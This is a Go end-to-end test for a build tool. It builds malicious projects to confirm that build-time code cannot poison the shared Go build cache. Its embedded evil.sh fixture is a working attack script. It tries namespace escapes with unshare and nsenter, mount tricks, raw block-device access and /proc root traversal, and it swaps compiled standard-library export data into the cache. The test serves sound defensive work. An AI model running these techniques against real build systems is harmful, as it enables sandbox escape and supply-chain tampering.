package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stagefront/stagefront/test/image"
)

// attackers are specs of projects whose own code runs while they are built, and what
// is built of them.
var attackers = map[string]struct{ spec, flags string }{
	"script":    {spec: "build: {script: [[sh, evil.sh]]}"},
	"go-script": {spec: "build: {script: [[go, generate, ./...]]}"},
	"test":      {flags: "--target=test"},
	"toolexec":  {spec: "build: {flags: [-toolexec=/src/evil.sh]}"},
	"goflags":   {spec: "build: {env: {GOFLAGS: -toolexec=/src/evil.sh}}"},
	"goenv":     {spec: "build: {env: {XDG_CONFIG_HOME: /src/.config}}"},
	// Tools of C are run by others, which say what they printed where they fail: these do.
	"compiler":   {spec: "build: {cgo: true, tags: [withc], env: {CC: /src/evil.sh}}"},
	"linker":     {spec: "build: {cgo: true, tags: [withc], ldflags: [-linkmode=external, -extld=/src/evil.sh]}"},
	"subprogram": {spec: "build: {cgo: true, tags: [withc], env: {CGO_CFLAGS: -B/src/bin/}}"},
}

// TestGoCacheAttack builds projects that try to rewrite what Go's cache has of a
// package of the standard library, for every platform: what is built after them is
// what it was before, and nothing that they tried has worked.
func TestGoCacheAttack(t *testing.T) {
	lab := start(t)
	victim := func(name string) {
		ref := build(t, lab, project(t, strings.ReplaceAll(attackVictim, "NAME", name)), "golang-attack-victim", anew())
		for _, platform := range platforms {
			result, err := open(t, ref, platform).Run(t.Context(), image.RunOptions{})
			if want := name + " 1\n"; err != nil || result.Stderr != want {
				t.Errorf("%s: got %+v, %v, want %q", platform, result, err, want)
			}
		}
	}
	victim("before") // what is to be rewritten is there
	for name, c := range attackers {
		t.Run(name, func(t *testing.T) {
			dir := project(t, strings.ReplaceAll(attackProject, "SPEC", c.spec))
			for _, script := range []string{"evil.sh", "bin/cc1"} {
				if err := os.Chmod(filepath.Join(dir, script), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			flags := append(strings.Fields(c.flags), anew())
			if !strings.Contains(c.spec, "cgo: true") { // which is the same for both, but for a compiler to install
				flags = append(flags, "--platform=linux/amd64,linux/arm64")
			}
			printed, err := try(t, lab, dir, flags...)
			// Not all attackers leave a program; all of them must have run.
			if !strings.Contains(printed, "attack: ends") || strings.Contains(printed, "attack: worked") {
				t.Errorf("got %v and\n%s", err, printed)
			}
		})
	}
	victim("after")
}

const attackVictim = `
-- stagefront.yaml --
# syntax=org/stagefront
language: go
-- go.mod --
module example.com/victim

go 1.26.0
-- main.go --
package main

import "container/list"

func main() {
	l := list.New()
	l.PushBack(nil)
	println("NAME", l.Len())
}
`

const attackProject = `
-- stagefront.yaml --
# syntax=org/stagefront
language: go
SPEC
-- go.mod --
module example.com/attacker

go 1.26.0
-- main.go --
package main

import "container/list"

//go:generate sh evil.sh
func main() { println(list.New().Len()) }
-- withc.go --
//go:build withc

package main

import "C"
-- main_test.go --
package main

import (
	"os"
	"os/exec"
	"testing"
)

func TestEvil(t *testing.T) {
	cmd := exec.Command("sh", "evil.sh")
	cmd.Stdout, cmd.Stderr = os.Stderr, os.Stderr
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	t.Fatal("so that the log is shown")
}
-- .config/go/env --
GOFLAGS=-toolexec=/src/evil.sh
-- bin/cc1 --
#!/bin/sh
exec sh /src/evil.sh -cc1
-- evil.sh --
#!/bin/sh
# Rewrites container/list in the compiler's cache, in every way that it knows. What it
# is called with, as one of the compiler's tools, is done in the end.
cache=/var/cache/go-build
say() { echo "attack: $*" | tee -a /tmp/attacked >&2; }
try() { if "$@" >/dev/null 2>&1; then say "worked: $*"; fi; }

attack() {
	say begins
	try touch $cache/evil
	try chmod 0777 $cache
	try rm $cache/README
	try mv $cache/README $cache/evil
	try mount -o remount,rw $cache
	try mount -o remount,bind,rw $cache
	try umount -l $cache
	try unshare -m sh -c "mount -o remount,bind,rw $cache && touch $cache/evil"
	try unshare -Urm sh -c "mount -o remount,bind,rw $cache && touch $cache/evil"
	try unshare -Urm sh -c "umount $cache && touch $cache/evil"
	try nsenter -t 1 -m touch $cache/evil
	try ln $cache/README /tmp/evil
	for at in /proc/*/root /proc/*/cwd/../../..; do
		try touch $at$cache/evil
	done
	try sh -c "exec 8<$cache/README && echo evil >/proc/self/fd/8"
	device=$(awk -v at=$cache '$5 == at { print $3 }' /proc/self/mountinfo)
	try sh -c "mknod /tmp/disk b ${device%%:*} ${device##*:} && head -c 1 /tmp/disk"
	for at in /opt/stagefront /go/pkg/mod /run/warm /usr/local/go; do
		try touch $at/evil
	done
	for arch in amd64 arm64; do
		try rewrite $arch
	done
	say ends
}

# rewrite puts another container/list in the place of that for an architecture.
rewrite() (
	set -e
	unset GOFLAGS CC CGO_CFLAGS
	export GOOS=linux GOARCH=$1 CGO_ENABLED=0 GODEBUG=goindex=0 HOME=/tmp GOENV=off
	cd /tmp
	good=$(GOCACHE=$cache go list -export -trimpath -f '{{.Export}}' container/list)
	sed 's/return l.len/return 666/' /usr/local/go/src/container/list/list.go >/tmp/list.go
	echo '{"Replace": {"/usr/local/go/src/container/list/list.go": "/tmp/list.go"}}' >/tmp/overlay.json
	evil=$(GOCACHE=/tmp/evil-cache go list -overlay /tmp/overlay.json -export -trimpath -f '{{.Export}}' container/list)
	test -s "$good" && test -s "$evil" || exit 1 # what a condition runs goes on after failures
	chmod u+w "$good"
	cat "$evil" >"$good"
	output=$(basename "$good" -d)
	for entry in $(grep -rl "$output" $cache --include='*-a'); do
		awk -v size=$(wc -c <"$good") '{ printf "v1 %s %s %20d %20d\n", $2, $3, size, $5 }' "$entry" >/tmp/entry
		cat /tmp/entry >"$entry"
	done
	cmp "$evil" "$good"
)

case "$*" in
*-V=full*|*-E*-dM*|*"-###"*) ;; # asked for its version
*) [ -e /tmp/attacked ] || attack ;;
esac
[ $# -eq 0 ] && exit
case "$1" in
-*)
	[ -e /tmp/attacked ] || exec gcc "$@"
	cat /tmp/attacked >&2
	exit 1
	;;
esac
exec "$@"
`
